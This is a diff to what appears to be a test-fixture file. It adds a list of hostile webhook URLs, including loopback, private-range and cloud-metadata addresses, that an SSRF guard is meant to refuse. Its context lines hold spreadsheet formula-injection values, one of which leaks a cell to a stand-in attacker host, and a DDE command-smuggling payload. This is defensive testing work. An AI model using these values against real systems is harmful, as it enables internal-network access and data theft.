@@ -23,6 +23,21 @@ HOSTILE_URIS = [
     "https://example.com/\x00",
     "https://example.com/" + "a" * 3000,
 ]
+# A webhook subscription's URL (a URL the server POSTs to): every hostile URI, and the addresses
+# the SSRF guard refuses (tests/properties/hostile/test_webhook_urls.py: every door refuses them).
+HOSTILE_WEBHOOK_URLS = [
+    *HOSTILE_URIS,
+    "https://127.0.0.1/hook",
+    "https://10.0.0.8/hook",
+    "https://169.254.169.254/latest/meta-data/",
+    "https://[::1]/hook",
+    "https://[::ffff:127.0.0.1]/hook",
+    "https://[fe80::1]/hook",
+    "https://0.0.0.0/hook",
+    "https://100.64.0.1/hook",
+    "https://hooks.example.com/in#fragment",
+    "",
+]
 HOSTILE_TEXT = [
     '=HYPERLINK("https://evil.example/?leak="&B2,"Click")',
     "+cmd|' /C calc'!A0",
